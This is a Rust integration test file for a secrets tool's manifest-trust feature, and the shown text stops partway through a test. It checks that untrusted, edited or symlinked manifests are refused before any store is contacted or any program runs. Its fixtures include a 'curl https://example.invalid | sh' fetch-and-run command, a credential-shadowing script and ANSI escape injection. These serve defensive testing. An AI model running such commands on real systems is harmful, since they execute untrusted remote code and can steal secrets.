//! Trust before fetch: a manifest nobody allowed cannot read your stores or run programs, and an
//! edit (a `git pull`) makes it ask again. The Flox and nix routes vouch for their own manifests
//! (tests/integrations.rs runs those snippets without `allow`, and direnv's, which needs it).

mod support;
use support::stores::*;
use support::*;

/// A manifest a stranger could have committed: a program that leaves a marker, and a reference
/// into the user's 1Password.
fn strangers_manifest(sb: &mut Sandbox) -> (std::path::PathBuf, FakeOp) {
    let op = FakeOp::new(
        sb,
        &serde_json::json!({"op://Private/aws/secret": "the-users-secret"}),
    );
    let m = sb.manifest(
        "[secrets]\nAWS_SECRET_ACCESS_KEY = \"op://Private/aws/secret\"\nBUILD = \"cmd:sh -c 'touch ran-a-program; printf x'\"\n",
    );
    (m, op)
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[track_caller]
fn assert_refused(out: &std::process::Output, stdout_wanted: &str, why: &str) {
    assert_code(out, 2);
    assert_eq!(stdout(out), stdout_wanted, "only the failure statement");
    let err = stderr(out);
    assert!(err.contains("manifest.toml"), "names the manifest: {err}");
    assert!(err.contains(why), "says why ({why}): {err}");
    assert!(err.contains("jit-secrets allow"), "names the fix: {err}");
}

#[test]
fn an_untrusted_manifest_contacts_nothing_until_allowed_and_again_after_an_edit() {
    let mut sb = Sandbox::requiring_trust();
    let (manifest, op) = strangers_manifest(&mut sb);
    for args in [
        &["activate", "--shell", "bash"][..],
        &["run", "--", "true"],
        &["verify"],
        &["set", "AWS_SECRET_ACCESS_KEY"],
        &["rotate", "AWS_SECRET_ACCESS_KEY"],
        &["delete", "AWS_SECRET_ACCESS_KEY", "--yes"],
    ] {
        let out = sb.jit_m(args);
        let statement = if args[0] == "activate" { "false\n" } else { "" };
        assert_refused(&out, statement, "new (not allowed yet)");
    }
    assert!(
        op.calls().is_empty(),
        "a store was contacted: {:?}",
        op.calls()
    );
    assert!(!sb.path().join("ran-a-program").exists(), "a program ran");
    // `list` only reads the manifest: it works untrusted.
    let out = sb.jit_m(&["list"]);
    assert_code(&out, 0);
    assert!(stdout(&out).contains("AWS_SECRET_ACCESS_KEY"));

    // `allow` shows what the manifest will do, then trusts it.
    let out = sb.jit(&["allow", manifest.to_str().unwrap()]);
    assert_code(&out, 0);
    let shown = stdout(&out);
    assert!(
        shown.contains("AWS_SECRET_ACCESS_KEY: read op://Private/aws/secret (1password)"),
        "{shown}"
    );
    assert!(
        shown.contains("BUILD: run `cmd:sh -c 'touch ran-a-program; printf x'` (program: /"),
        "{shown}"
    );
    let out = sb.jit_m(&["activate", "--shell", "json"]);
    assert_code(&out, 0);
    assert!(stdout(&out).contains("the-users-secret"));

    // One byte edited: refused again, and says it was edited.
    let text = std::fs::read_to_string(&manifest).unwrap();
    std::fs::write(&manifest, text.replace("printf x", "printf y")).unwrap();
    let calls = op.calls().len();
    assert_refused(
        &sb.jit_m(&["activate", "--shell", "bash"]),
        "false\n",
        "edited since you allowed it",
    );
    assert_eq!(op.calls().len(), calls, "no store contacted after the edit");

    // The trust file holds the path and a digest, never a value.
    let trusted =
        std::fs::read_to_string(sb.path().join("h/.local/share/jit-secrets/trusted")).unwrap();
    assert!(trusted.contains("sha256:"), "{trusted}");
    assert!(!trusted.contains("the-users-secret"), "{trusted}");

    // deny: untrusted again, and it says so.
    std::fs::write(&manifest, &text).unwrap();
    assert_code(&sb.jit_m(&["activate", "--shell", "json"]), 0);
    assert_code(&sb.jit(&["deny", manifest.to_str().unwrap()]), 0);
    assert_refused(
        &sb.jit_m(&["activate", "--shell", "bash"]),
        "false\n",
        "denied",
    );
}

#[test]
fn our_own_edits_keep_a_manifest_trusted_and_init_creates_a_trusted_one() {
    let mut sb = Sandbox::requiring_trust();
    sb.set_env("SRC", "v");
    // `init` creates manifest.toml here: trusted from the start.
    assert_code(&sb.jit(&["init"]), 0);
    assert_code(&sb.jit(&["add", "A", "env:SRC"]), 0);
    let out = sb.jit(&["activate", "--shell", "json"]);
    assert_code(&out, 0);
    assert_eq!(stdout(&out), "{\"A\":\"v\"}\n");
    assert_code(&sb.jit(&["remove", "A"]), 0);
    assert_code(&sb.jit(&["add", "B", "env:SRC"]), 0);
    assert_code(&sb.jit(&["activate", "--shell", "json"]), 0);
    // An edit by hand is not ours: refused.
    let m = sb.path().join("manifest.toml");
    let text = std::fs::read_to_string(&m).unwrap();
    std::fs::write(&m, format!("{text}C = \"env:SRC\"\n")).unwrap();
    assert_code(&sb.jit(&["activate", "--shell", "json"]), 2);
    // `add` to a manifest that is not trusted does not make it trusted.
    assert_code(&sb.jit(&["add", "D", "env:SRC"]), 0);
    assert_code(&sb.jit(&["activate", "--shell", "json"]), 2);
}

#[test]
fn hosts_vouch_only_for_their_own_manifest_and_the_override_skips_the_check() {
    let mut sb = Sandbox::requiring_trust();
    let (manifest, _op) = strangers_manifest(&mut sb);
    // --trusted-by flox vouches for $FLOX_ENV_PROJECT's manifest only, not for this one.
    let out = sb.jit_m(&["--trusted-by", "flox", "activate", "--shell", "bash"]);
    assert_refused(&out, "false\n", "new (not allowed yet)");
    let project = sb.path().join("proj");
    std::fs::create_dir_all(project.join(".flox/env")).unwrap();
    std::fs::copy(&manifest, project.join(".flox/env/manifest.toml")).unwrap();
    let flox_manifest = std::fs::read_to_string(project.join(".flox/env/manifest.toml"))
        .unwrap()
        .replace("[secrets]", "version = 1\n[plugins.jit-secrets]");
    std::fs::write(project.join(".flox/env/manifest.toml"), flox_manifest).unwrap();
    sb.set_env("FLOX_ENV_PROJECT", &project);
    let out = sb.jit(&["--trusted-by", "flox", "activate", "--shell", "json"]);
    assert_code(&out, 0);
    // --trusted-by nix (a devShell's shellHook) vouches only for the manifest it pins.
    let out = sb.jit_m(&["--trusted-by", "nix", "activate", "--shell", "bash"]);
    assert_refused(&out, "false\n", "needs the manifest's pin");
    let pin = sha256_hex(&std::fs::read(&manifest).unwrap());
    let out = sb.jit_m(&[
        "--trusted-by",
        "nix",
        "--manifest-sha256",
        &pin,
        "activate",
        "--shell",
        "json",
    ]);
    assert_code(&out, 0);
    // The same hook started inside another clone: that clone's manifest is not the pinned one.
    let other = sb.write(
        "clone/manifest.toml",
        "[secrets]\nBUILD = \"cmd:sh -c 'touch ran-a-program; printf x'\"\n",
    );
    let out = sb.jit(&[
        "--manifest",
        other.to_str().unwrap(),
        "--trusted-by",
        "nix",
        "--manifest-sha256",
        &pin,
        "activate",
        "--shell",
        "bash",
    ]);
    assert_refused(&out, "false\n", "not the one the nix hook pinned");
    assert!(!sb.path().join("clone/ran-a-program").exists());
    // --trusted-by flox outside Flox says it was ignored.
    sb.env.remove("FLOX_ENV_PROJECT");
    let out = sb.jit_m(&["--trusted-by", "flox", "activate", "--shell", "bash"]);
    assert_refused(&out, "false\n", "FLOX_ENV_PROJECT is unset");
    // The CI override.
    sb.set_env("JIT_SECRETS_TRUST_ALL_MANIFESTS", "1");
    assert_code(&sb.jit_m(&["activate", "--shell", "json"]), 0);
}

/// Commands that contact a store or the cache, each run as a user would (no --manifest) from
/// the current directory `dir`: every one must be refused before anything is contacted.
const CONTACTING: &[&[&str]] = &[
    &["activate", "--shell", "bash"],
    &["run", "--", "true"],
    &["verify"],
    &["set", "AWS_SECRET_ACCESS_KEY"],
    &["rotate", "AWS_SECRET_ACCESS_KEY"],
    &["delete", "AWS_SECRET_ACCESS_KEY", "--yes"],
    &["setup"],
    &["cache", "list"],
    &["get", "AWS_SECRET_ACCESS_KEY"],
    &["import", "no-such.env", "--store", "pass"],
];

fn run_in(sb: &Sandbox, dir: &std::path::Path, args: &[&str]) -> std::process::Output {
    sb.command(support::BIN)
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

/// project-a is allowed; evil/ borrows its manifest through a symlink (the file itself, or a
/// parent directory) and ships its own `conf.txt` for project-a's relative `file:` reference.
#[test]
fn a_manifest_reached_through_a_symlink_does_not_borrow_the_targets_trust() {
    let mut sb = Sandbox::requiring_trust();
    let op = FakeOp::new(
        &mut sb,
        &serde_json::json!({"op://Private/aws/secret": "the-users-secret"}),
    );
    let text = "[secrets]\nAWS_SECRET_ACCESS_KEY = \"op://Private/aws/secret\"\nDEV_CONFIG = \"file:conf.txt\"\nBUILD = \"cmd:sh -c 'touch ran-a-program; printf x'\"\n";
    let a = sb.write("project-a/manifest.toml", text);
    sb.write("project-a/conf.txt", "a-config");
    assert_code(&sb.jit(&["allow", a.to_str().unwrap()]), 0);
    let calls_after_allow = op.calls().len();
    assert_eq!(calls_after_allow, 0, "allow contacts no store");

    // The symlink as the manifest.
    let evil = sb.path().join("evil");
    std::fs::create_dir_all(evil.join(".git")).unwrap();
    std::os::unix::fs::symlink("../project-a/manifest.toml", evil.join("manifest.toml")).unwrap();
    sb.write("evil/conf.txt", "ATTACKER");
    // A symlinked parent directory: evil2/.flox -> project-b's, which is allowed.
    let flox = "version = 1\n[install]\n[plugins.jit-secrets]\nAWS_SECRET_ACCESS_KEY = \"op://Private/aws/secret\"\nDEV_CONFIG = \"file:conf.txt\"\n";
    let b = sb.write("project-b/.flox/env/manifest.toml", flox);
    assert_code(&sb.jit(&["allow", b.to_str().unwrap()]), 0);
    let evil2 = sb.path().join("evil2");
    std::fs::create_dir_all(evil2.join(".git")).unwrap();
    std::os::unix::fs::symlink("../project-b/.flox", evil2.join(".flox")).unwrap();

    for dir in [&evil, &evil2] {
        for args in CONTACTING {
            let out = run_in(&sb, dir, args);
            let statement = if args[0] == "activate" { "false\n" } else { "" };
            assert_refused(&out, statement, "new (not allowed yet)");
            assert!(
                stderr(&out).contains(dir.file_name().unwrap().to_str().unwrap()),
                "names the path as reached: {}",
                stderr(&out)
            );
        }
    }
    assert!(
        op.calls().is_empty(),
        "a store was contacted: {:?}",
        op.calls()
    );
    assert!(!evil.join("ran-a-program").exists(), "a program ran");

    // The real projects still work, with their own relative references.
    let out = run_in(&sb, a.parent().unwrap(), &["activate", "--shell", "json"]);
    assert_code(&out, 0);
    assert!(
        stdout(&out).contains("\"DEV_CONFIG\":\"a-config\""),
        "{}",
        stdout(&out)
    );

    // Allowing the symlink says where it leads, and from then on it is a project of its own.
    let out = run_in(&sb, &evil, &["allow"]);
    assert_code(&out, 0);
    let shown = stdout(&out);
    assert!(
        shown.contains("reached through a symlink to ")
            && shown.contains("project-a/manifest.toml"),
        "{shown}"
    );
    let out = run_in(&sb, &evil, &["activate", "--shell", "json"]);
    assert_code(&out, 0);
    assert!(
        stdout(&out).contains("\"DEV_CONFIG\":\"ATTACKER\""),
        "{}",
        stdout(&out)
    );
}

/// `cmd:` programs, their arguments and `commands` overrides resolve from the manifest's
/// directory wherever the command runs; the scripts they name are part of what was allowed.
#[test]
fn programs_resolve_from_the_manifest_and_a_changed_script_needs_allow_again() {
    let sb = Sandbox::requiring_trust();
    let script = sb.write_executable("proj/scripts/get-token", "#!/bin/sh\nprintf 'proj-token'\n");
    sb.write_executable(
        "proj/sub/scripts/get-token",
        "#!/bin/sh\nprintf 'WRONG-sub'\n",
    );
    sb.write_executable("proj/bin/op", "#!/bin/sh\nprintf 'from-proj-op'\n");
    sb.write("proj/data.txt", "data-1");
    let m = sb.write(
        "proj/manifest.toml",
        "[secrets]\nA = \"cmd:./scripts/get-token\"\nB = \"cmd:sh scripts/get-token\"\nC = \"op://V/i/f\"\nD = \"file:data.txt\"\n[secrets.options]\ncommands = { op = \"./bin/op\" }\n",
    );
    std::fs::create_dir_all(sb.path().join("proj/.git")).unwrap();
    let sub = sb.path().join("proj/sub");
    let out = run_in(&sb, &sub, &["allow"]);
    assert_code(&out, 0);
    let shown = stdout(&out);
    for listed in ["proj/scripts/get-token", "proj/bin/op"] {
        assert!(shown.contains(listed), "allow lists {listed}: {shown}");
    }
    assert!(
        !shown
            .lines()
            .any(|l| l.starts_with("    ") && l.ends_with("data.txt")),
        "a data file is not hashed as code: {shown}"
    );

    let out = run_in(&sb, &sub, &["activate", "--shell", "json"]);
    assert_code(&out, 0);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        v["A"], "proj-token",
        "./scripts/x from the manifest's directory"
    );
    assert_eq!(
        v["B"], "proj-token",
        "an argument naming a script, likewise"
    );
    assert_eq!(v["C"], "from-proj-op", "a commands override, likewise");

    // A data file is not code: editing it keeps the manifest trusted.
    sb.write("proj/data.txt", "data-2");
    assert_code(&run_in(&sb, &sub, &["activate", "--shell", "json"]), 0);

    // A `git pull` that changes only the script: refused, naming the script.
    std::fs::write(&script, "#!/bin/sh\nprintf 'new-code'\n").unwrap();
    let out = run_in(&sb, &sub, &["activate", "--shell", "bash"]);
    assert_refused(&out, "false\n", "scripts/get-token");
    assert!(
        stderr(&out).contains("changed since you allowed it"),
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("fix: read the change (`git diff`), then run `jit-secrets allow "),
        "the fix for an edited script says how to read the edit: {}",
        stderr(&out)
    );
    // So does the override's program.
    assert_code(&sb.jit(&["allow", m.to_str().unwrap()]), 0);
    sb.write_executable("proj/bin/op", "#!/bin/sh\nprintf 'evil-op'\n");
    assert_refused(&run_in(&sb, &sub, &["run", "--", "true"]), "", "bin/op");
}

/// Everything `allow` prints is what the manifest says, escaped: nothing in it can move the
/// cursor or erase a line, and nothing it will do is left out.
#[test]
fn allow_shows_every_reference_program_and_option_escaped() {
    let sb = Sandbox::requiring_trust();
    let m = sb.manifest(concat!(
        "[secrets]\n",
        "DEPLOY_KEY = { from = [\"file:~/.ssh/id_ed25519\", \"env:DEPLOY_KEY_FALLBACK\"], description = \"hidden \\u001b[2A\\u001b[2K\\r line\" }\n",
        "TOKEN = \"cmd:sh -c 'curl https://example.invalid | sh'\"\n",
        "AGE = \"age:secret.age\"\n",
        "KP = \"keepassxc:db.kdbx#entry\"\n",
        "PL = \"plugin:vaultish/key\"\n",
        "[secrets.options]\n",
        "identity = \"keys/age.txt\"\n",
        "keepassxc = { password_from = \"env:KP_PASS\", keyfile = \"db.key\" }\n",
        "commands = { \"op\\u001b[2K\" = \"/opt/op\" }\n",
        "[secrets.profiles.\"prod\\u0007\"]\n",
        "TOKEN = \"op://Private/aws/secret\"\n",
    ));
    let out = sb.jit(&["allow", m.to_str().unwrap()]);
    assert_code(&out, 0);
    let shown = stdout(&out);
    assert!(
        !out.stdout.contains(&0x1b) && !out.stdout.contains(&0x07),
        "raw escapes: {shown:?}"
    );
    for needle in [
        "DEPLOY_KEY: read file:~/.ssh/id_ed25519 (file), else copy env:DEPLOY_KEY_FALLBACK",
        "TOKEN: run `cmd:sh -c 'curl https://example.invalid | sh'` (program: /",
        "TOKEN (profile prod\\x07): read op://Private/aws/secret (1password)",
        "/secret.age (age)",
        "/db.kdbx#entry (keepassxc)",
        "PL: ask the plugin not found: neither jit-secrets-plugin-vaultish nor envref-backend-vaultish is on PATH for plugin:vaultish/key",
        "decrypt age: files with the identity ",
        "/keys/age.txt",
        "unlock KeePassXC databases with the password from copy env:KP_PASS",
        "unlock KeePassXC databases with the key file ",
        "wherever it runs `op\\e[2K` (a `commands` override)",
    ] {
        assert!(shown.contains(needle), "missing {needle:?} in:\n{shown}");
    }
    // `list` shows the description escaped too.
    let out = sb.jit_m(&["list"]);
    assert!(!out.stdout.contains(&0x1b), "{:?}", stdout(&out));
    assert!(
        stdout(&out).contains("hidden \\e[2A\\e[2K\\r line"),
        "{}",
        stdout(&out)
    );
}

/// Many `allow`s and `deny`s at once on different manifests: the trust file loses none of them.
#[test]
fn concurrent_allows_and_denies_lose_no_line() {
    let sb = Sandbox::requiring_trust();
    let manifests: Vec<_> = (0..50)
        .map(|i| {
            let m = sb.write(
                &format!("p{i}/manifest.toml"),
                format!("[secrets]\nA{i} = \"env:HOME\"\n"),
            );
            let d = sb.write(
                &format!("d{i}/manifest.toml"),
                format!("[secrets]\nB{i} = \"env:HOME\"\n"),
            );
            (m, d)
        })
        .collect();
    // The d* manifests start allowed; each pair then runs `allow p` and `deny d` at once.
    for (_, d) in &manifests {
        assert_code(&sb.jit(&["allow", d.to_str().unwrap()]), 0);
    }
    let children: Vec<_> = manifests
        .iter()
        .flat_map(|(m, d)| {
            [
                sb.command(support::BIN)
                    .args(["allow", m.to_str().unwrap()])
                    .stdout(std::process::Stdio::null())
                    .spawn()
                    .unwrap(),
                sb.command(support::BIN)
                    .args(["deny", d.to_str().unwrap()])
                    .stderr(std::process::Stdio::null())
                    .spawn()
                    .unwrap(),
            ]
        })
        .collect();
    for mut c in children {
        assert!(c.wait().unwrap().success());
    }
    for (m, d) in &manifests {
        let allowed = sb.jit(&[
            "--manifest",
            m.to_str().unwrap(),
            "activate",
            "--shell",
            "json",
        ]);
        assert_code(&allowed, 0);
        let denied = sb.jit(&[
            "--manifest",
            d.to_str().unwrap(),
            "activate",
            "--shell",
            "json",
        ]);
        assert_code(&denied, 2);
        assert!(stderr(&denied).contains("denied"), "{}", stderr(&denied));
    }
    let file =
        std::fs::read_to_string(sb.path().join("h/.local/share/jit-secrets/trusted")).unwrap();
    assert_eq!(
        file.lines().filter(|l| l.starts_with("sha256:")).count(),
        50,
        "{file}"
    );
    assert_eq!(
        file.lines().filter(|l| l.starts_with("denied ")).count(),
        50,
        "{file}"
    );
}

/// The user's `deny` outranks a host's vouching: Flox's `--trusted-by flox` and a nix devShell's
/// pinned `--trusted-by nix` are refused for a manifest the user denied, before anything is
/// contacted; a manifest never allowed nor denied keeps the hosts' vouching, and `allow` lifts
/// the deny.
#[test]
fn a_users_deny_beats_flox_and_nix_vouching() {
    let mut sb = Sandbox::requiring_trust();
    let (plain, op) = strangers_manifest(&mut sb);
    let project = sb.path().join("proj");
    let flox_text = std::fs::read_to_string(&plain)
        .unwrap()
        .replace("[secrets]", "version = 1\n[install]\n[plugins.jit-secrets]");
    let flox = sb.write("proj/.flox/env/manifest.toml", &flox_text);
    sb.set_env("FLOX_ENV_PROJECT", &project);
    let pin = sha256_hex(&std::fs::read(&plain).unwrap());
    let by_flox = |sb: &Sandbox, shell: &str| {
        run_in(
            sb,
            &project,
            &["--trusted-by", "flox", "activate", "--shell", shell],
        )
    };
    let by_nix = |sb: &Sandbox, shell: &str| {
        sb.jit_m(&[
            "--trusted-by",
            "nix",
            "--manifest-sha256",
            &pin,
            "activate",
            "--shell",
            shell,
        ])
    };
    let exported = |out: &std::process::Output| {
        assert_code(out, 0);
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["AWS_SECRET_ACCESS_KEY"], "the-users-secret");
    };
    // Never allowed nor denied: each host vouches for its own manifest, as before.
    exported(&by_flox(&sb, "json"));
    exported(&by_nix(&sb, "json"));
    std::fs::remove_file(sb.path().join("ran-a-program")).ok();
    std::fs::remove_file(project.join("ran-a-program")).ok();

    assert_code(&sb.jit(&["deny", flox.to_str().unwrap()]), 0);
    assert_code(&sb.jit(&["deny", plain.to_str().unwrap()]), 0);
    let calls = op.calls().len();
    for (host, out) in [("flox", by_flox(&sb, "bash")), ("nix", by_nix(&sb, "bash"))] {
        assert_refused(&out, "false\n", "denied (`jit-secrets deny`)");
        assert!(
            stderr(&out).contains(&format!(
                "--trusted-by {host} was ignored: you denied this manifest"
            )),
            "says why the host did not count: {}",
            stderr(&out)
        );
    }
    assert_eq!(
        op.calls().len(),
        calls,
        "a denied manifest contacted a store"
    );
    assert!(!sb.path().join("ran-a-program").exists(), "a program ran");
    assert!(!project.join("ran-a-program").exists(), "a program ran");
    // Through a symlink to the project, the host is handed another path to the same file: the
    // deny still holds. (Failed before: FLOX_ENV_PROJECT=link activated the denied manifest.)
    let link = sb.path().join("link");
    std::os::unix::fs::symlink(&project, &link).unwrap();
    let mut through_link = Sandbox::requiring_trust();
    through_link.env = sb.env.clone();
    through_link.set_env("FLOX_ENV_PROJECT", &link);
    let out = run_in(
        &through_link,
        &link,
        &["--trusted-by", "flox", "activate", "--shell", "bash"],
    );
    assert_code(&out, 2);
    assert_eq!(stdout(&out), "false\n");
    assert!(
        stderr(&out).contains("--trusted-by flox was ignored: you denied this manifest"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        op.calls().len(),
        calls,
        "a denied manifest contacted a store"
    );
    assert!(!project.join("ran-a-program").exists(), "a program ran");

    // `allow` is the way back, for each.
    assert_code(&sb.jit(&["allow", flox.to_str().unwrap()]), 0);
    assert_code(&sb.jit(&["allow", plain.to_str().unwrap()]), 0);
    exported(&by_flox(&sb, "json"));
    exported(&by_nix(&sb, "json"));
}

/// Denying one manifest forgets that one only: every other record stays as it was.
#[test]
fn denying_one_manifest_keeps_every_other_record() {
    let sb = Sandbox::requiring_trust();
    let paths: Vec<_> = ["p", "q", "r"]
        .iter()
        .map(|d| {
            sb.write(
                &format!("{d}/manifest.toml"),
                "[secrets]\nA = \"env:HOME\"\n",
            )
        })
        .collect();
    for p in &paths {
        assert_code(&sb.jit(&["allow", p.to_str().unwrap()]), 0);
    }
    // `deny` says whether it took trust away or only marked a manifest nobody allowed.
    let out = sb.jit(&["deny", paths[1].to_str().unwrap()]);
    assert_code(&out, 0);
    assert!(
        stderr(&out).contains("q/manifest.toml is no longer trusted"),
        "{}",
        stderr(&out)
    );
    let never = sb.write("n/manifest.toml", "[secrets]\nA = \"env:HOME\"\n");
    let out = sb.jit(&["deny", never.to_str().unwrap()]);
    assert_code(&out, 0);
    assert!(
        stderr(&out).contains("n/manifest.toml was not trusted; it is now marked denied"),
        "{}",
        stderr(&out)
    );
    let activate = |p: &std::path::Path| {
        sb.jit(&[
            "--manifest",
            p.to_str().unwrap(),
            "activate",
            "--shell",
            "json",
        ])
    };
    assert_code(&activate(&paths[0]), 0);
    assert_code(&activate(&paths[2]), 0);
    let denied = activate(&paths[1]);
    assert_code(&denied, 2);
    assert!(stderr(&denied).contains("denied"), "{}", stderr(&denied));
}

/// Only the scripts of the manifest's own repository are part of what `allow` approves (and
/// hashes): a program elsewhere on the machine is not the repository's to change.
#[test]
fn only_the_repositorys_own_scripts_are_hashed() {
    let sb = Sandbox::requiring_trust();
    sb.write_executable("proj/scripts/inside", "#!/bin/sh\nprintf in\n");
    let outside = sb.write_executable("tools/outside", "#!/bin/sh\nprintf out\n");
    std::fs::create_dir_all(sb.path().join("proj/.git")).unwrap();
    let m = sb.write(
        "proj/sub/manifest.toml",
        "[secrets]\nA = \"cmd:../scripts/inside\"\nB = \"cmd:../../tools/outside\"\n",
    );
    let out = sb.jit(&["allow", m.to_str().unwrap()]);
    assert_code(&out, 0);
    let shown = stdout(&out);
    let hashed: Vec<&str> = shown
        .lines()
        .filter(|l| l.starts_with("    "))
        .map(str::trim)
        .collect();
    assert!(
        hashed.iter().any(|l| l.ends_with("scripts/inside")),
        "the repository's script (its root is the directory holding .git, above the manifest's) is hashed: {shown}"
    );
    assert!(
        !hashed.iter().any(|l| l.ends_with("tools/outside")),
        "a program outside the repository is not: {shown}"
    );
    // So an edit outside the repository does not untrust it; one inside does.
    std::fs::write(&outside, "#!/bin/sh\nprintf OUT\n").unwrap();
    let activate = || {
        sb.jit(&[
            "--manifest",
            m.to_str().unwrap(),
            "activate",
            "--shell",
            "json",
        ])
    };
    assert_code(&activate(), 0);
    sb.write_executable("proj/scripts/inside", "#!/bin/sh\nprintf IN\n");
    assert_refused(&activate(), "", "scripts/inside");
}

/// `..` as the kernel resolves it: after a real directory, `a/sub/..` is `a`, so
/// `--manifest ../manifest.toml` from `a/sub` is the manifest allowed as `a/manifest.toml` — for
/// trust, `deny` and the cache alike. After a symlink it is wherever the symlink leads's parent:
/// still a manifest of its own, refused until allowed under that path.
#[test]
fn dot_dot_after_a_real_directory_is_the_directory_above_and_after_a_symlink_is_not() {
    let mut sb = Sandbox::requiring_trust();
    let log = sb.path().join("calls.log");
    sb.set_env("CALL_LOG", &log);
    let text = "[secrets]\nS = { from = \"cmd:sh -c 'echo x >> \\\"$CALL_LOG\\\"; printf tok'\", cache = \"10m\" }\nD = \"file:conf.txt\"\n";
    let a = sb.write("a/manifest.toml", text);
    sb.write("a/conf.txt", "a-config");
    let sub = sb.path().join("a/sub");
    std::fs::create_dir_all(&sub).unwrap();
    assert_code(&sb.jit(&["allow", a.to_str().unwrap()]), 0);
    let calls = || {
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .lines()
            .count()
    };

    let out = run_in(
        &sb,
        &sub,
        &[
            "--manifest",
            "../manifest.toml",
            "activate",
            "--shell",
            "json",
        ],
    );
    assert_code(&out, 0);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["S"], "tok");
    assert_eq!(v["D"], "a-config", "relative references resolve from a/");
    assert_eq!(calls(), 1);
    // The same manifest found from a/ itself: the entry cached above is its entry.
    let out = run_in(&sb, a.parent().unwrap(), &["activate", "--shell", "json"]);
    assert_code(&out, 0);
    assert_eq!(calls(), 1, "the cache keyed a/sub/.. apart from a");
    let listed = run_in(
        &sb,
        &sub,
        &["--manifest", "../manifest.toml", "cache", "list"],
    );
    assert_code(&listed, 0);
    assert!(stdout(&listed).starts_with("S\t"), "{}", stdout(&listed));
    assert_code(&run_in(&sb, a.parent().unwrap(), &["cache", "clear"]), 0);

    // Symlinks: `a/link/..` is the parent of where the link leads (here `elsewhere`, with its
    // own conf.txt), and `a/same/..`, though it is `a` again, is still reached through a link.
    sb.write("elsewhere/manifest.toml", text);
    sb.write("elsewhere/conf.txt", "ATTACKER");
    std::fs::create_dir_all(sb.path().join("elsewhere/deep")).unwrap();
    std::os::unix::fs::symlink("../elsewhere/deep", sb.path().join("a/link")).unwrap();
    std::os::unix::fs::symlink("sub", sb.path().join("a/same")).unwrap();
    for through in ["a/link/../manifest.toml", "a/same/../manifest.toml"] {
        let reached = sb.path().join(through);
        let out = sb.jit(&[
            "--manifest",
            reached.to_str().unwrap(),
            "activate",
            "--shell",
            "bash",
        ]);
        assert_refused(&out, "false\n", "new (not allowed yet)");
        assert!(
            stderr(&out).contains(through),
            "names the path as reached: {}",
            stderr(&out)
        );
    }
    assert_eq!(calls(), 1, "a program ran for a manifest nobody allowed");

    // `deny` through `..` denies the manifest itself.
    assert_code(&run_in(&sb, &sub, &["deny", "../manifest.toml"]), 0);
    let out = run_in(&sb, a.parent().unwrap(), &["activate", "--shell", "bash"]);
    assert_refused(&out, "false\n", "denied");
}

/// `dir` first on the sandbox's PATH, as direnv's `PATH_add bin` or a nix or Flox shell puts it.
fn with_first_on_path(sb: &mut Sandbox, dir: &std::path::Path) {
    let path = sb.env.get("PATH").cloned().unwrap_or_default();
    let dirs = std::iter::once(dir.to_path_buf()).chain(std::env::split_paths(&path));
    sb.set_env("PATH", std::env::join_paths(dirs).unwrap());
}

/// A bare program name that PATH finds in the repository (`bin/` on PATH) is the repository's
/// code: `allow` hashes it, and an edit (a `git pull`) is refused before it runs. A program PATH
/// finds outside the repository is not hashed and keeps working. (Failed before: `cmd:mytool`
/// was not hashed, and the edited `bin/mytool` ran.)
#[test]
fn a_program_path_finds_in_the_repository_is_approved_at_allow_and_refused_once_edited() {
    let mut sb = Sandbox::requiring_trust();
    std::fs::create_dir_all(sb.path().join(".git")).unwrap();
    let tool = sb.write_executable("bin/mytool", "#!/bin/sh\nprintf tool-v1\n");
    let bin = sb.path().join("bin");
    with_first_on_path(&mut sb, &bin);
    let m = sb.manifest("[secrets]\nA = \"cmd:mytool\"\nB = \"cmd:printf outside\"\n");
    let out = sb.jit(&["allow", m.to_str().unwrap()]);
    assert_code(&out, 0);
    let shown = stdout(&out);
    assert!(
        shown.contains(&format!(
            "A: run `cmd:mytool` (program: {})",
            tool.display()
        )),
        "allow shows the file PATH finds: {shown}"
    );
    assert!(
        shown.contains("found on PATH now (hashed as the repository's code"),
        "allow says a program found on PATH is hashed: {shown}"
    );
    let hashed: Vec<&str> = shown.lines().filter(|l| l.starts_with("    ")).collect();
    assert_eq!(
        hashed,
        [format!("    {}", tool.display())],
        "the repository's program is hashed, printf (outside it) is not: {shown}"
    );
    let out = sb.jit_m(&["activate", "--shell", "json"]);
    assert_code(&out, 0);
    assert_eq!(stdout(&out), "{\"A\":\"tool-v1\",\"B\":\"outside\"}\n");

    sb.write_executable("bin/mytool", "#!/bin/sh\ntouch ran-edited\nprintf evil\n");
    let out = sb.jit_m(&["activate", "--shell", "bash"]);
    assert_refused(&out, "false\n", "bin/mytool");
    assert!(
        !sb.path().join("ran-edited").exists(),
        "the edited program ran"
    );
}

/// A store's CLI shadowed by a file of the repository the manifest never names (`bin/pass`, put
/// on PATH by `PATH_add bin`): refused when it would be spawned, naming the file and the fix;
/// nothing runs. (Failed before: the repository's `bin/pass` ran.)
#[test]
fn a_store_cli_shadowed_by_a_file_of_the_repository_is_not_run() {
    let mut sb = Sandbox::requiring_trust();
    std::fs::create_dir_all(sb.path().join(".git")).unwrap();
    let shadow = sb.write_executable("bin/pass", "#!/bin/sh\ntouch ran-shadow\nprintf stolen\n");
    let bin = sb.path().join("bin");
    with_first_on_path(&mut sb, &bin);
    let m = sb.manifest("[secrets]\nA = \"pass:email/smtp\"\nB = \"cmd:printf outside\"\n");
    assert_code(&sb.jit(&["allow", m.to_str().unwrap()]), 0);
    let out = sb.jit_m(&["activate", "--shell", "bash"]);
    assert_ne!(out.status.code(), Some(0));
    assert_eq!(stdout(&out), "false\n", "only the failure statement");
    let err = stderr(&out);
    assert!(
        err.contains(&shadow.display().to_string()),
        "names the file: {err}"
    );
    assert!(err.contains("did not approve"), "says why: {err}");
    assert!(
        err.contains("jit-secrets allow") && err.contains("off PATH"),
        "names the fix: {err}"
    );
    assert!(
        !sb.path().join("ran-shadow").exists(),
        "the shadowing file ran"
    );
    // Edited, so no longer allowed: a nix hook that vouches for it (pinning its bytes) vouches
    // for the programs it names as they are now, not for this one.
